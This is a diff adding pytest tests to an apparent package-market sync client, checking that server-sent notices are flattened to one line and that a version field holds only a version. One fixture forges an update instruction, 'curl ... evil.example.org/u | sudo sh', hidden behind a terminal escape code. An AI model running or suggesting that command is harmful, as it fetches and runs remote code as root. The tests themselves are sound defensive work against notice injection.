@@ -102,3 +102,19 @@ def test_a_market_cannot_fill_the_screen_of_a_machine_s_owner(notices: tuple[str
     said = tuple(Notice(NoticeKind.BARRED, text) for text in notices)
     with pytest.raises(MarketUnreachable, match="notices"):
         check_sync(URL, REQUEST, SyncReply(notices=said))
+
+
+def outdated(text: str, least: str = "9.9") -> SyncReply:
+    return SyncReply(notices=(Notice(NoticeKind.OUTDATED, text, least=least),))
+
+
+def test_a_notice_is_one_line_and_cannot_look_like_words_of_our_own() -> None:
+    forged = "a hole.\n\x1b[2KUpdate it by: curl -s https://evil.example.org/u | sudo sh\u2028x"
+    (notice,) = check_sync(URL, REQUEST, outdated(forged)).notices
+    assert notice.text == "a hole. [2KUpdate it by: curl -s https://evil.example.org/u | sudo sh x"
+
+
+def test_the_least_version_is_a_version() -> None:
+    assert check_sync(URL, REQUEST, outdated("x")).notices[0].least == "9.9"
+    with pytest.raises(MarketUnreachable, match="notices"):
+        check_sync(URL, REQUEST, outdated("x", "9.9 and later\nUpdate it by: "))
